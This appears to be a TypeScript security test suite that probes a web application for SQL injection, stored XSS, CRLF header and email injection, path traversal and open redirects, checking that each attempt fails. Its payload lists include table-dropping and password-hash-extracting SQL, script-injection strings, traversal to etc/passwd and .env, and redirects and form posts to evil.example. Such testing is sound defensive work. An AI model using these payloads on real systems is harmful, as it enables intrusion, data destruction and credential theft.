import { randomBytes } from 'node:crypto'
import { percentile } from '../measure.ts'
import { callApi } from '../support/site.ts'
import { accountPassword } from './enumeration.ts'
import { findDanger } from './markup.ts'
import { type Corpus, noneOf, probe } from './probe.ts'
import type { Target } from './target.ts'

const SLEEP_MS = 3000

const sql = [
  `' or '1'='1`,
  `'; drop table public.settings; --`,
  `1); select pg_sleep(3); --`,
  `' || pg_sleep(3) || '`,
  `" or ""="`,
  `\\'; select 1; --`,
  `$$; select pg_sleep(3); $$`,
  `%' union select encrypted_password from auth.users --`,
  `(select pg_sleep(3))`,
]

const xss = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  `'-alert(1)-'`,
  '</script><script>alert(1)</script>',
  '<!--<script>-->',
  'javascript:alert(1)',
  '<a href="java\tscript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>@import "https://evil.example"</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '\u2028<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
]

async function attackSql(target: Target) {
  const failures: string[] = []
  const times: number[] = []
  const attempts = sql.flatMap((text): [path: string, body?: object][] => {
    const value = encodeURIComponent(text)
    return [
      [`/rest/v1/articles?title=eq.${value}`],
      [`/rest/v1/articles?${value}=eq.1`],
      [`/rest/v1/articles?select=${value}`],
      [`/rest/v1/articles?order=${value}`],
      [`/rest/v1/articles?limit=${value}&offset=${value}`],
      [`/rest/v1/articles?or=(title.eq.${value})`],
      [`/rest/v1/${value}?select=*`],
      [`/rest/v1/rpc/${value}`],
      ['/rest/v1/rpc/submit_contact_message', { p_first_name: text }],
      ['/auth/v1/token?grant_type=password', { email: text, password: text }],
      ['/auth/v1/verify', { token_hash: text, type: 'signup' }],
      [`/storage/v1/object/public/assets/${value}`],
    ]
  })
  for (const [path, body] of attempts) {
    const answer = body ? await target.post(path, body) : await target.api(path)
    times.push(answer.milliseconds)
    if (answer.status >= 500) failures.push(`${path} ${answer.status}`)
    if (/\$2[aby]\$/.test(answer.text)) failures.push(`${path} shows a hash`)
    if (answer.milliseconds > SLEEP_MS) failures.push(`${path} slept`)
  }
  for (const text of sql) {
    const value = encodeURIComponent(text)
    for (const path of [`/blog/${value}`, `/blog/page/${value}`, `/courses/${value}`]) {
      const { status, milliseconds } = await target.request(path)
      if (![400, 404].includes(status) && status < 300) failures.push(`${path} ${status}`)
      if (status >= 500 || milliseconds > SLEEP_MS) failures.push(`${path} ${status}`)
    }
  }
  const settings = await callApi(target.site, 'GET', '/rest/v1/settings?select=id')
  if ((settings as unknown[]).length !== 1) failures.push('the table of settings changed')
  const slowest = `median ${percentile(times, 0.5).toFixed(1)} ms`
  return noneOf(attempts.length + 3 * sql.length, failures, `without effect, ${slowest}`)
}

/** Filter logic that would return rows hidden by row level security. */
async function attackFilters(target: Target) {
  const code = randomBytes(4).toString('hex')
  await callApi(target.site, 'POST', '/rest/v1/articles', {
    title: `Draft ${code}`,
    slug: `draft-${code}`,
    content: 'secret',
    status: 'draft',
  })
  const queries = [
    'or=(status.eq.draft,status.eq.published)',
    'or=(id.not.is.null)',
    'status=eq.draft',
    'and=(or(status.eq.draft,id.not.is.null))',
    'select=*,article_slugs(*)&or=(status.eq.draft,id.not.is.null)',
    `slug=eq.draft-${code}`,
    `title=ilike.*${code}*`,
    'status=neq.published',
    'status=not.in.(published)',
  ]
  const failures: string[] = []
  for (const query of queries) {
    const { text } = await target.api(`/rest/v1/articles?${query}`)
    if (text.includes(code)) failures.push(query)
  }
  const tables = ['contact_messages', 'profiles', 'user_roles', 'email_outbox', 'page_views']
  for (const table of tables) {
    const { text } = await target.api(`/rest/v1/${table}?select=*&or=(id.not.is.null,id.is.null)`)
    if (text.startsWith('[{')) failures.push(table)
  }
  return noneOf(queries.length + tables.length, failures, 'show nothing hidden')
}

const HEADER = 'X-Injected'
/** Line breaks, encoded once and twice, and characters that truncate to a line break. */
const breaks = ['%0d%0a', '%0a', '%0d', '%250d%250a', '%E5%98%8A%E5%98%8D', '%00%0d%0a']

async function attackHeaders(target: Target) {
  const failures: string[] = []
  const payloads = breaks.map((bytes) => `x${bytes}${HEADER}:%201${bytes}Set-Cookie:%20a=b`)
  let count = 0
  for (const payload of payloads) {
    const paths = [
      `/${payload}`,
      `/blog/${payload}`,
      `/blog?${payload}`,
      `/auth?next=/${payload}`,
      `/account/${payload}`,
      `/auth/confirm?token_hash=${payload}&type=email`,
      `/courses/electrical/?${payload}`,
      `/_next/image?url=${payload}&w=640&q=75`,
    ]
    for (const path of paths) {
      count++
      const { headers } = await target.request(path)
      if (headers[HEADER.toLowerCase()] || headers['set-cookie']?.some((one) => /^a=b/.test(one))) {
        failures.push(path)
      }
    }
  }
  return noneOf(count, failures, 'no header added')
}

/** Line breaks in fields of the contact form that become header fields of an email. */
async function attackMail(target: Target) {
  const victim = `${randomBytes(6).toString('hex')}@example.com`
  const code = randomBytes(4).toString('hex')
  const header = `\r\nBcc: ${victim}\r\nTo: ${victim}`
  const fields = {
    firstName: `Ann${header}`,
    lastName: `Lee${header}`,
    email: `ann.${code}@example.com`,
    subject: `Subject ${code}${header}`,
    message: `Message${header}`,
  }
  const answer = await target.submit('/contact', fields, { marker: 'name="subject"' })
  await target.submit('/contact', { ...fields, email: `ann.${code}@example.com${header}` })
  const mails = await target.countMails(victim)
  return {
    ok: mails === 0,
    seen: `${answer.status}, ${mails} emails to the injected recipient`,
  }
}

async function attackPaths(target: Target) {
  const { secrets } = target.site
  const up = [
    '../',
    '..%2f',
    '%2e%2e/',
    '%2e%2e%2f',
    '..%5c',
    '..\\',
    '%252e%252e%252f',
    '..;/',
    '.%00./',
  ]
  const files = ['.data/bench/secrets.json', 'package.json', 'etc/passwd', '.env']
  const starts = [
    '/',
    '/images/',
    '/_next/static/',
    '/brand/',
    '/api/',
    '/_next/image?url=/images/',
  ]
  const failures: string[] = []
  let count = 0
  for (const file of files) {
    for (const dots of up) {
      for (const start of starts) {
        count += 2
        const path = `${start}${dots.repeat(6)}${file}`
        for (const answer of [
          await target.request(path),
          await target.api(`/storage/v1/object/public/assets${path}`),
        ]) {
          const isFile =
            answer.text.includes(secrets.secretKey) || /"dependencies":|root:x:0/.test(answer.text)
          if (isFile || answer.status >= 500) failures.push(`${path} ${answer.status}`)
        }
      }
    }
  }
  return noneOf(count, failures, 'found no file outside the public ones')
}

async function attackRedirects(target: Target) {
  const nexts = [
    'https://evil.example',
    '//evil.example',
    '/\\evil.example',
    '/%2f%2fevil.example',
    '/\t/evil.example',
    'https:evil.example',
    '/..//evil.example',
    'javascript:alert(1)',
  ]
  const email = target.account()
  const failures: string[] = []
  for (const next of nexts) {
    const path = `/auth?next=${encodeURIComponent(next)}`
    const answer = await target.submit(path, { email, password: accountPassword, next })
    const location = new URL(answer.headers.location ?? '/', target.site.url)
    if (location.origin !== new URL(target.site.url).origin && location.hostname !== 'localhost') {
      failures.push(`${next} leads to ${location.href}`)
    }
  }
  for (const path of [
    '//evil.example/',
    '/\\evil.example/',
    '//evil.example/%2f..',
    '/%5cevil.example/',
  ]) {
    const { headers } = await target.request(path)
    if (/^(?:https?:)?[\\/]{2}evil/.test(headers.location ?? '')) failures.push(path)
  }
  return noneOf(nexts.length + 4, failures, 'stay on the site')
}

/** Markup in names, messages and articles, written by a visitor, a user and a stolen admin token. */
async function attackStoredMarkup(target: Target) {
  const failures: string[] = []
  const pages: [path: string, cookie?: string][] = []
  const admin = await target.asAdmin()
  const cookie = await target.adminCookie()
  let count = 0
  for (const text of xss) {
    const code = randomBytes(5).toString('hex')
    const member = await target.post('/auth/v1/signup', {
      email: `${code}@example.com`,
      password: accountPassword,
      data: { first_name: text.slice(0, 45), last_name: text.slice(0, 45) },
    })
    const email = `${code}@example.com`
    const fields = {
      firstName: text.slice(0, 45),
      lastName: 'Lee',
      email,
      subject: text,
      message: text,
    }
    const message = await target.submit('/contact', fields, { marker: 'name="subject"' })
    const article = await target.api('/rest/v1/articles?select=id,slug', {
      method: 'POST',
      headers: { ...admin, prefer: 'return=representation' },
      body: {
        title: text,
        slug: `hostile-${code}`,
        excerpt: text,
        content: `<p>before</p>${text}<p>after</p>`,
        status: 'published',
        published_at: new Date().toISOString(),
      },
    })
    if (member.status >= 500 || message.status >= 500 || article.status >= 500) {
      failures.push(`an error for ${text}`)
    }
    count += 3
    pages.push([`/blog/hostile-${code}`])
    const [row] = article.status === 201 ? (JSON.parse(article.text) as { id: string }[]) : []
    if (row) pages.push([`/admin/content/edit/${row.id}`, cookie])
  }
  pages.push(['/blog'], ['/feed.xml'], ['/'])
  for (const path of ['/admin', '/admin/messages', '/admin/users', '/admin/content']) {
    pages.push([path, cookie])
  }
  const messages = await callApi(
    target.site,
    'GET',
    '/rest/v1/contact_messages?select=id&order=created_at.desc&limit=20',
  )
  for (const { id } of messages as { id: string }[]) pages.push([`/admin/messages/${id}`, cookie])
  for (const [path, session] of pages) {
    const answer = await target.request(path, { headers: session ? { cookie: session } : {} })
    const danger = findDanger(answer.text)
    if (danger) failures.push(`${danger} on ${path}`)
    if (answer.status >= 500) failures.push(`${path} ${answer.status}`)
  }
  return noneOf(count, failures, `stored texts harmless on ${pages.length} pages`)
}

/** Input that a part of the site might interpret as code. */
export const injection: Corpus = async (target) => [
  await probe(target, 'SQL in every parameter', 'no error, no effect', () => attackSql(target)),
  await probe(target, 'filters that add rows', 'hidden rows stay hidden', () =>
    attackFilters(target),
  ),
  await probe(target, 'line breaks in URLs', 'no header added', () => attackHeaders(target)),
  await probe(target, 'line breaks in emails', 'no recipient added', () => attackMail(target)),
  await probe(target, 'path traversal', 'no file', () => attackPaths(target)),
  await probe(target, 'redirects to other hosts', 'none', () => attackRedirects(target)),
  await probe(target, 'stored markup', 'harmless', () => attackStoredMarkup(target)),
]
